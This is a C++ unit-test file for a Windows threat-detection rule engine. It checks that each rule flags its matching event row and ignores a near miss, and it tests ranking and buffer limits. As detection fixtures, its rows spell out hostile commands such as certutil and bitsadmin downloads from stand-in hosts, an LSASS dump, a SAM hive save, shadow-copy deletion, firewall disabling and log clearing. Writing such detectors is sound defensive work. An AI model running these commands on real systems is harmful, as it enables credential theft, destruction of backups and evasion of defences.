// Threat rules: every rule fires on a row it describes and stays quiet on a near miss; the
// ranking of several matches, the result classes, the match modes and the bounded threat text.
#include <cstring>
#include <initializer_list>
#include <string>

#include "base/text.h"
#include "doctest.h"
#include "rules/threat_rules.h"
#include "support/text_check.h"

using namespace olv;

namespace {

constexpr uint32_t kFile = kCategoryFile, kReg = kCategoryRegistry, kNet = kCategoryNetwork,
                   kProc = kCategoryProcess;

struct RowInput {
    uint32_t category;
    const char16_t* operation;
    const char16_t* path;
    const char16_t* detail;
    const char16_t* result;
};

// One row at a time, kept off the test's stack (3256 bytes).
EventRow& Row(const RowInput& input) {
    static EventRow row;
    std::memset(&row, 0, sizeof row);
    row.category = input.category;
    CopyBounded(row.operation, kOperationChars, input.operation);
    CopyBounded(row.path, kPathChars, input.path);
    CopyBounded(row.detail, kDetailChars, input.detail);
    CopyBounded(row.result, kResultChars, input.result);
    return row;
}

struct Scored {
    int32_t severity;
    std::string threat;
    bool operator==(const Scored&) const = default;
};

Scored Score(const RowInput& input) {
    EventRow& row = Row(input);
    const int32_t severity = ScoreRow(&row, row.threat, kThreatChars);
    return {severity, U8(row.threat)};
}

// The scoring written out plainly from the public per-step functions, to check the scoring path
// (which rules patterns out by precomputed character pairs) against.
Scored ReferenceScore(const RowInput& input) {
    const EventRow& row = Row(input);
    const uint32_t opClass = OperationClassOf(row.operation);
    int32_t best = 0;
    int matches = 0;
    std::string name;
    for (const ThreatRule& rule : kThreatRules) {
        if (rule.category != row.category) continue;
        if (rule.operationClasses != 0 && opClass != 0 && (rule.operationClasses & opClass) == 0)
            continue;
        if (rule.needsSuccess != 0 && ClassifyResult(row.result) == ResultFailed) continue;
        if (!MatchPatternList(rule.patternsA, &row, rule.fields, rule.matchMode) ||
            !MatchPatternList(rule.patternsB, &row, rule.fields, rule.matchMode))
            continue;
        ++matches;
        if (rule.severity > best) {
            best = rule.severity;
            name = U8(rule.name);
        }
    }
    if (matches >= 2) name += " (+" + std::to_string(matches - 1) + ")";
    return {best, best == 0 ? std::string() : name};
}

// A near miss changes one text of a row that fires its rule, or its category.
using Field = const char16_t* RowInput::*;
constexpr Field Operation = &RowInput::operation, Path = &RowInput::path,
                Detail = &RowInput::detail, Result = &RowInput::result, OtherCategory = nullptr;

struct RuleCase {
    int rule; // 1-based table position
    uint32_t category;
    const char16_t *operation, *path, *detail, *result;
    Field change;
    const char16_t* changed = nullptr;
    RowInput Hit() const { return {category, operation, path, detail, result}; }
};

const char16_t* const kRunKey = u"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
const char16_t* const kStart = u"Started child process";

const RuleCase kRuleCases[] = {
    {1, kReg, u"Wrote registry value", kRunKey, u"Updater", u"OK", Operation,
     u"Read registry value"},
    {2, kReg, u"Wrote registry value", u"HKLM\\SYSTEM\\ControlSet001\\Services\\x", u"ImagePath",
     u"OK", Detail, u"Description"},
    {3, kReg, u"Wrote registry value", u"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Winlogon",
     u"Userinit", u"OK", Detail, u"LegalNoticeText"},
    {4, kReg, u"Created registry key", u"HKLM\\...\\Image File Execution Options\\sethc.exe",
     u"Debugger", u"OK", Result, u"DENIED"},
    {5, kReg, u"Wrote registry value", u"HKLM\\SOFTWARE", u"AppInit_DLLs", u"OK", OtherCategory},
    {6, kReg, u"Wrote registry value", u"HKCU\\Software\\Classes\\CLSID\\{b5f8}\\InprocServer32",
     u"\\InprocServer32", u"OK", Path, u"HKCU\\Software\\Classes\\CLSID"}, // detail not searched
    {7, kReg, u"Wrote registry value", u"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
     u"DisableAntiSpyware", u"OK", Result, u"FAIL 0xC0000022"},
    {8, kFile, u"Created new file", u"C:\\Users\\a\\Start Menu\\Programs\\Startup\\r.lnk", u"",
     u"OK", Operation, u"Opened file"},
    {9, kFile, u"Wrote to file", u"C:\\Windows\\System32\\Tasks\\Updater", u"", u"OK", Operation,
     u"Deleted file"},
    {10, kFile, u"Created new file", u"C:\\Windows\\Temp\\x.exe", u"", u"OK", Path,
     u"C:\\Windows\\Temp\\notes.txt"},
    {11, kFile, u"Created new file", u"C:\\Users\\a\\AppData\\Roaming\\x.dll", u"", u"OK", Result,
     u"FAIL 0xC0000022"},
    {12, kFile, u"Renamed file", u"C:\\ProgramData\\svc.ps1", u"", u"OK", Path,
     u"C:\\ProgramData\\svc.log"},
    {13, kFile, u"Opened file", u"C:\\Downloads\\invoice.PDF.exe", u"", u"DENIED", OtherCategory},
    {14, kFile, u"Read file", u"C:\\Windows\\System32\\config\\SAM", u"", u"OK", OtherCategory},
    {15, kProc, u"Loaded DLL", u"C:\\Users\\a\\AppData\\Local\\Temp\\e.dll", u"", u"", Operation,
     kStart},
    {16, kProc, u"Loaded DLL", u"C:\\Windows\\System32\\comsvcs.dll", u"", u"", Operation,
     u"Process exited"},
    {17, kProc, kStart, u"powershell.exe -nop -w hidden -enc SQBFAFgA", u"", u"OK", Path,
     u"powershell.exe -File C:\\scripts\\backup.ps1"},
    {18, kProc, kStart, u"cmd.exe /c echo a && echo b", u"", u"OK", Path, u"cmd.exe /c dir"},
    {19, kProc, kStart, u"rundll32.exe C:\\Users\\a\\AppData\\Local\\x.dll,Start", u"", u"OK", Path,
     u"rundll32.exe shell32.dll,Control_RunDLL"},
    {20, kProc, kStart, u"regsvr32.exe /s C:\\Users\\Public\\x.sct", u"", u"OK", Path,
     u"regsvr32.exe /s C:\\Windows\\System32\\msxml3.dll"},
    {21, kProc, kStart, u"mshta.exe http://example.test/a.hta", u"", u"OK", Path, u"mshta.exe"},
    {22, kProc, kStart, u"certutil.exe -urlcache -f http://x.test/a a.exe", u"", u"OK", Path,
     u"certutil.exe -store my"},
    {23, kProc, kStart, u"bitsadmin /transfer job http://x.test/a C:\\a.exe", u"", u"OK", Path,
     u"bitsadmin /list"},
    {24, kProc, kStart, u"wscript.exe C:\\Users\\a\\Downloads\\invoice.vbs", u"", u"OK", Path,
     u"cscript.exe //nologo C:\\Windows\\System32\\prnmngr.js"},
    {25, kProc, kStart, u"MSBuild.exe C:\\Users\\a\\AppData\\Local\\Temp\\p.csproj", u"", u"OK",
     Path, u"MSBuild.exe build.proj"},
    {26, kProc, kStart, u"wmic.exe process call create calc.exe", u"", u"OK", Path,
     u"wmic.exe os get caption"},
    {27, kProc, kStart, u"vssadmin.exe delete shadows /all /quiet", u"", u"OK", OtherCategory},
    {28, kProc, kStart, u"netsh advfirewall set allprofiles state off", u"", u"OK", Operation,
     u"Loaded DLL"},
    {29, kProc, kStart, u"wevtutil.exe cl Security", u"", u"OK", Path, u"wevtutil.exe qe x"},
    {30, kProc, kStart, u"ping 127.0.0.1 -n 3 > nul & del \"%~f0\"", u"", u"OK", Path,
     u"ping 127.0.0.1"},
    {31, kProc, kStart, u"reg.exe save HKLM\\SAM C:\\x\\sam.save", u"", u"OK", Path,
     u"reg.exe save HKCU\\Software\\App app.hiv"},
    {32, kProc, kStart, u"procdump.exe -accepteula -ma lsass.exe out.dmp", u"", u"OK", Path,
     u"procdump.exe -ma notepad.exe"},
    {33, kProc, kStart, u"C:\\Windows\\System32\\whoami.exe /all", u"", u"OK", OtherCategory},
    {34, kNet, u"Connected (TCP)", u"10.0.0.5:49712 -> 203.0.113.9:4444", u"", u"", Path,
     u"10.0.0.5:49712 -> 203.0.113.9:44445"},
    {35, kNet, u"DNS query", u"evil.TK", u"", u"", Path, u"evil.tk.example.com"},
    {36, kNet, u"DNS query", u"abc123.ngrok.io", u"", u"", Operation, u"Opened file"}};

RowInput NearMiss(const RuleCase& c) {
    RowInput miss = c.Hit();
    if (c.change == nullptr) miss.category = (miss.category + 1) % 4;
    if (c.change != nullptr) miss.*c.change = c.changed;
    return miss;
}

} // namespace

TEST_CASE("every rule fires alone on its own row and not on a near miss") {
    bool covered[kThreatRuleCount] = {};
    for (const RuleCase& c : kRuleCases) {
        CAPTURE(c.rule);
        const ThreatRule& rule = kThreatRules[c.rule - 1];
        covered[c.rule - 1] = true;
        CHECK(Score(c.Hit()) == Scored{rule.severity, U8(rule.name)});
        CHECK(Score(NearMiss(c)) == Scored{0, ""});
        CHECK(Score(c.Hit()) == ReferenceScore(c.Hit()));
    }
    for (size_t i = 0; i < kThreatRuleCount; ++i) {
        CAPTURE(i + 1);
        CHECK(covered[i]);
    }
}

TEST_CASE("every pattern of every rule matches its own text, in upper case where case folds") {
    for (const ThreatRule& rule : kThreatRules) {
        for (size_t i = 0; rule.patternsA[i] != nullptr; ++i) {
            // The A pattern, then the first B pattern (if any).
            std::u16string text = u"x";
            text += rule.patternsA[i];
            if (rule.patternsB != nullptr) text += std::u16string(u" ") + rule.patternsB[0];
            for (char16_t& ch : text) {
                if (rule.matchMode != MatchPathToken && ch >= u'a' && ch <= u'z') ch -= 32;
            }
            CAPTURE(U8(rule.name));
            CAPTURE(U8(text.c_str()));
            const EventRow& row = Row({rule.category, u"", text.c_str(), u"", u"OK"});
            CHECK(MatchPatternList(rule.patternsA, &row, rule.fields, rule.matchMode));
            CHECK(MatchPatternList(rule.patternsB, &row, rule.fields, rule.matchMode));
            const Scored viaPath = Score({rule.category, u"", text.c_str(), u"", u"OK"});
            CHECK(viaPath.severity >= rule.severity);
            CHECK(viaPath == ReferenceScore({rule.category, u"", text.c_str(), u"", u"OK"}));
            CHECK(Score({rule.category, u"", u"x", text.c_str(), u"OK"}) ==
                  ReferenceScore({rule.category, u"", u"x", text.c_str(), u"OK"}));
        }
    }
}

TEST_CASE("severity is the highest match, the name the first with it, the suffix counts rules") {
    struct Case {
        RowInput row;
        Scored expected;
    } cases[] = {
        // Rules 18 (2) and 33 (1).
        {{kProc, kStart, u"cmd.exe /c whoami.exe && exit", u"", u"OK"},
         {2, "Obfuscated or chained cmd (+1)"}},
        // Rules 17 and 19, both 3: the earlier one names the row.
        {{kProc, kStart, u"rundll32.exe javascript: powershell -enc abc", u"", u"OK"},
         {3, "Suspicious PowerShell arguments (+1)"}},
        // Rules 18 (2), 27 (3) and 33 (1): a later, higher rule takes the name.
        {{kProc, kStart, u"cmd.exe /c whoami.exe && vssadmin delete shadows", u"", u"OK"},
         {3, "Shadow copies deleted (+2)"}},
        // Two patterns of rule 1 are one matching rule.
        {{kReg, u"Wrote registry value", u"HKCU\\...\\CurrentVersion\\RunOnce", u"", u"OK"},
         {3, "Run key persistence"}},
        // A folder named like an executable counts, in either order.
        {{kFile, u"Wrote to file", u"C:\\Windows\\Temp\\setup.exe\\readme.txt", u"", u"OK"},
         {3, "Executable dropped in Temp"}}};
    for (const Case& c : cases) {
        CAPTURE(U8(c.row.path));
        CHECK(Score(c.row) == c.expected);
    }
}

TEST_CASE("result classes: failed results stop the write rules, unknown and warnings do not") {
    const std::initializer_list<const char16_t*> byClass[3] = {
        {nullptr, u"", u"-", u"..."},
        {u"OK", u"PENDING", u"MORE DATA", u"NO MORE", u"WARN 0x80000005", u"WARNING"},
        {u"DENIED", u"FAIL 0xC0000022", u"ok", u"Warn 0x80000005", u"--"}};
    for (int cls = ResultUnknown; cls <= ResultFailed; ++cls) {
        for (const char16_t* result : byClass[cls]) {
            CAPTURE(U8(result));
            CHECK(ClassifyResult(result) == cls);
            const Scored s = Score(
                {kReg, u"Wrote registry value", u"HKLM\\...\\CurrentVERSION\\RUN\\x", u"", result});
            CHECK(s == (cls == ResultFailed ? Scored{0, ""} : Scored{3, "Run key persistence"}));
        }
    }
}

TEST_CASE("match modes: a name suffix with one final dot, a port token ending the text") {
    struct Suffix {
        const char16_t* path;
        const char16_t* pattern;
        bool expected;
    } suffixes[] = {
        {u"evil.tk", u".tk", true}, {u"evil.tk.", u".tk", true},  {u"evil.tk..", u".tk", false},
        {u"EVIL.TK", u".tk", true}, {u"evil.tka", u".tk", false}, {u"tk.", u".tk", false},
        {u"x.", u"", true},         {u"x", u"", false},           {nullptr, u".tk", false}};
    for (const Suffix& c : suffixes) {
        CAPTURE(U8(c.path));
        CHECK(PathEndsWith(c.path, c.pattern) == c.expected);
    }
    CHECK(Score({kNet, u"DNS answer", u"evil.tk.", u"", u""}).severity == 2);
    CHECK(Score({kNet, u"DNS answer", u"evil.tk..", u"", u""}).severity == 0);

    struct Token {
        const char16_t* path;
        int32_t severity;
    } tokens[] = {{u"198.51.100.7:4444 -> 10.0.0.5:50001", 3},
                  {u"10.0.0.5:50001 -> 198.51.100.7:44444", 0},
                  {u"10.0.0.5:4444-x", 0},
                  {u"10.0.0.5:44441 -> 198.51.100.7:4444", 3}, // the second occurrence counts
                  {u"", 0}};
    for (const Token& c : tokens) {
        CAPTURE(U8(c.path));
        CHECK(Score({kNet, u"Sent data (TCP)", c.path, u"", u""}).severity == c.severity);
    }
}

TEST_CASE("operation classes: exact names; an unknown operation meets every rule of its category") {
    for (const OperationClassEntry& entry : kOperationClassTable)
        CHECK(OperationClassOf(entry.operation) == entry.classes);
    CHECK(OperationClassOf(u"opened file") == 0);
    CHECK(OperationClassOf(u"Opened file ") == 0);
    CHECK(OperationClassOf(u"Changed registry key information, and then some more") == 0);
    CHECK(Score({kProc, u"Something new", u"C:\\Users\\a\\AppData\\Local\\Temp\\e.dll", u"", u""})
              .threat == "DLL loaded from unusual directory");
    CHECK(Score({kReg, u"wrote registry value", kRunKey, u"", u"OK"}).severity == 3);
    // The same rows under a known operation of another class are left alone.
    CHECK(Score({kProc, u"Process exited", u"C:\\Users\\a\\AppData\\Local\\Temp\\e.dll", u"",
                 u""}) == Scored{0, ""});
}

TEST_CASE("the threat text is bounded by its capacity; the severity is always returned") {
    char16_t out[40];
    const auto scoreInto = [&](const RowInput& input, size_t capacity) {
        std::fill(out, out + 40, u'#');
        return ScoreRow(&Row(input), out, capacity);
    };
    const RowInput two = {kFile, u"Created new file", u"C:\\Users\\a\\AppData\\Local\\Temp\\x.exe",
                          u"", u"OK"}; // rules 10 and 11
    CHECK(scoreInto(two, 10) == 3);
    CHECK(U8(out) == "Executabl"); // no room for the suffix
    CHECK(scoreInto(two, 30) == 3);
    CHECK(U8(out) == "Executable dropped in Temp (+"); // cut like any other text
    CHECK(out[30] == u'#');
    CHECK(scoreInto(two, 1) == 3);
    CHECK((out[0] == 0 && out[1] == u'#'));
    CHECK(scoreInto(two, 0) == 3);
    CHECK(out[0] == u'#');
    CHECK(ScoreRow(&Row(two), nullptr, 128) == 3);
    // A row that matches nothing leaves an empty text behind.
    CHECK(scoreInto({kFile, u"Read file", u"C:\\Windows\\win.ini", u"", u"OK"}, 40) == 0);
    CHECK(out[0] == 0);
}

TEST_CASE("a row whose texts fill their buffers is read only within them") {
    EventRow& row = Row({kProc, kStart, u"", u"", u"OK"});
    std::fill(row.path, row.path + kPathChars, u'a');
    std::fill(row.detail, row.detail + kDetailChars, u'b');
    // "rundll32" at the very end of the path, "http" at the very end of the detail.
    std::memcpy(row.path + kPathChars - 8, u"rundll32", 8 * sizeof(char16_t));
    std::memcpy(row.detail + kDetailChars - 4, u"http", 4 * sizeof(char16_t));
    char16_t out[kThreatChars];
    CHECK(ScoreRow(&row, out, kThreatChars) == 3);
    // A name split across the end of the path and the start of the detail is not found.
    std::memcpy(row.path + kPathChars - 8, u"aarundll", 8 * sizeof(char16_t));
    std::memcpy(row.detail, u"32 ", 3 * sizeof(char16_t));
    CHECK(ScoreRow(&row, out, kThreatChars) == 0);
}

TEST_CASE("severity labels") {
    const char* expected[] = {"", "Low", "Medium", "High", ""};
    for (uint32_t s = 0; s < 5; ++s)
        CHECK(U8(SeverityLabel(s)) == expected[s]);
    CHECK(U8(SeverityLabel(0xFFFFFFFFu)).empty());
}
